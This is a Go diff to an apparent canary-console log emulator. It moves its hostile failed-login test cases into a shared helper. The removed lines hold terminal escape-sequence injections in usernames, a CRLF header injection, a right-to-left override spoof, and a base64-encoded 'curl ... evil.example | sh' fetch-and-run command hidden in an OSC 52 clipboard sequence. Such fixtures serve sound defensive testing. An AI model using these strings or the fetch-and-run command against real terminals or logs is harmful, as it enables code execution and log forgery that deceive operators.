@@ -1,7 +1,6 @@
 package canaryemu
 
 import (
-	"encoding/base64"
 	"fmt"
 	"math/rand/v2"
 	"slices"
@@ -164,16 +163,7 @@ func (g *generator) hostile(n, afterBurst int) []Entry {
 	if n < 40 {
 		return nil
 	}
-	payload := base64.StdEncoding.EncodeToString([]byte("curl -s https://evil.example/x | sh"))
-	const agent = "Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0"
-	cases := []struct{ user, agent string }{
-		{"\x1b[2J\x1b[Hadmin", agent},
-		{"root\x1b]0;Canary Console\x07", agent},
-		{"guest", "Mozilla/5.0 \x1b]52;c;" + payload + "\x07"},
-		{"admin\u009b31mROOT\u009b0m", agent + "\r\nX-Injected: 1"},
-		{"security\u202emoc.elpmaxe@", agent},
-		{"operator\x1b[1A\x1b[2KUser alice@example.com logged in", agent},
-	}
+	cases := emulate.HostileLogins("Canary Console", "User alice@example.com logged in")
 	out := make([]Entry, len(cases))
 	t := g.burstStart().Add(time.Duration(afterBurst)*10*time.Second + 2*time.Minute)
 	for i, c := range cases {
@@ -181,8 +171,8 @@ func (g *generator) hostile(n, afterBurst int) []Entry {
 		if afterBurst == 0 {
 			ts = g.randomTime()
 		}
-		out[i] = Entry{Timestamp: ts, ActionType: "user_login_failure", User: c.user, UserIP: attackerIP,
-			UserBrowserAgent: c.agent, Message: fmt.Sprintf("User %s failed to log in", c.user)}
+		out[i] = Entry{Timestamp: ts, ActionType: "user_login_failure", User: c.User, UserIP: attackerIP,
+			UserBrowserAgent: c.Agent, Message: fmt.Sprintf("User %s failed to log in", c.User)}
 	}
 	return out
 }
